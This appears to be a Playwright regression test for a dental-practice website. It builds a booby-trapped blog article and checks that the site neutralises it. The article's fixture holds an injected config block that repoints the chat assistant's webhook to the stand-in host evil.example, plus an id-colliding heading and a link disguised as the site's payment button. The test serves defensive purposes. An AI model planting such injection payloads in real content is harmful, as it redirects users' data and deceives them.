/**
 * Issue 38, point 2 (docs/decisions/0049-content-html-allow-list.md): an article cannot reach the page's
 * machinery. The attack's article (a block that took the configuration's id and pointed DENTY at another
 * webhook, a heading « Dentivo : config » that broke every widget, a link dressed as the site's button) is
 * built by the real build, served by the real server, and every widget of its page works as on any other.
 */
import { test, expect, type Page } from '@playwright/test';
import { execFileSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { backendProcess, type BackendProcess } from '../support/backend-process.ts';
import { hostileSitePort } from '../support/ports.ts';

const root = join(import.meta.dirname, '..', '..');

const ARTICLE = `---
id: 9001
slug: article-piege
title: "Un article qui voudrait commander la page"
summary: "Un article écrit pour prendre la configuration des widgets, casser leur mécanique et déguiser un lien en bouton du site."
category: Gestion
tags: [Sécurité]
author: dentivo-team
publishDate: 2026-01-05
---
Un paragraphe ordinaire.

<div id="dentivo-config">{"assistantWebhookUrl":"https://evil.example/hook","supabaseUrl":"https://evil.example","productName":"Dentivo"}</div>

## Dentivo : config

<p><a href="/tarifs" class="btn btn--primary">Payer ici</a></p>

## Navigation

Fin de l’article.
`;

test.describe.configure({ mode: 'serial' });

let site: BackendProcess;
let work: string;
test.beforeAll(async () => {
  test.setTimeout(600_000);
  work = mkdtempSync(join(tmpdir(), 'dentivo-article-piege-'));
  mkdirSync(join(work, 'articles'));
  writeFileSync(join(work, 'articles', 'article-piege.md'), ARTICLE);
  const output = join(work, 'site');
  // The pages with the hostile article among the others, then what the widget builds wrote into _site.
  execFileSync(process.execPath, [join(root, 'scripts', 'eleventy.mjs'), '--quiet', `--output=${output}`], {
    cwd: root,
    env: { ...process.env, EXTRA_POSTS_DIR: join(work, 'articles') },
    stdio: ['ignore', 'ignore', 'inherit'],
  });
  for (const name of readdirSync(join(root, '_site')))
    if (!existsSync(join(output, name))) cpSync(join(root, '_site', name), join(output, name), { recursive: true });
  site = await backendProcess({ port: hostileSitePort, siteDir: output });
});
test.afterAll(async () => {
  await site?.close();
  if (work) rmSync(work, { recursive: true, force: true });
});

const drawer = (page: Page) => page.getByRole('dialog', { name: 'Assistant Dentivo' });

test('l’article piégé est construit sans rien prendre à la page, et ses widgets marchent', async ({ page }) => {
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  const errors: string[] = [];
  page.on('pageerror', (error) => errors.push(error.message));
  await page.goto(`${site.url}/blog/article-piege`);

  // The article's own ids are its own; its link is a link, not the site's button.
  await expect(page.locator('[id="dentivo-config"]')).toHaveCount(0);
  await expect(page.getByRole('heading', { name: 'Dentivo : config' })).toHaveAttribute('id', 'contenu-dentivo-config');
  await expect(page.getByRole('heading', { name: 'Navigation', exact: true })).toHaveAttribute(
    'id',
    'contenu-navigation',
  );
  await expect(page.getByRole('link', { name: 'Payer ici' })).not.toHaveAttribute('class', /./);
  // Every id of the page's own is there once: only the article's own ids may repeat (its own business).
  const ids = await page.locator('[id]').evaluateAll((all) => all.map((element) => element.id));
  const repeated = ids.filter((id, index) => ids.indexOf(id) !== index);
  expect(repeated.filter((id) => !id.startsWith('contenu-'))).toEqual([]);

  // The cookie banner, then DENTY: answered by this site's webhook, with its own configuration.
  await page.getByRole('button', { name: 'Tout accepter' }).click();
  await page.getByRole('button', { name: 'Assistant', exact: true }).click();
  await expect(drawer(page)).toBeVisible();
  const reply = page.waitForResponse((response) => response.url() === `${site.url}/assistant/webhook`);
  await drawer(page).getByRole('textbox', { name: 'Votre question' }).fill('Quel est le prix ?');
  await drawer(page).getByRole('textbox', { name: 'Votre question' }).press('Enter');
  expect((await reply).status()).toBe(200);
  await expect(drawer(page).locator('.assistant-markdown').last()).toContainText('Pack Essentiel');
  await expect(drawer(page).locator('a[href*="evil.example"]')).toHaveCount(0);
  expect(requests.filter((url) => url.includes('evil.example'))).toEqual([]);
  expect(errors).toEqual([]);
});
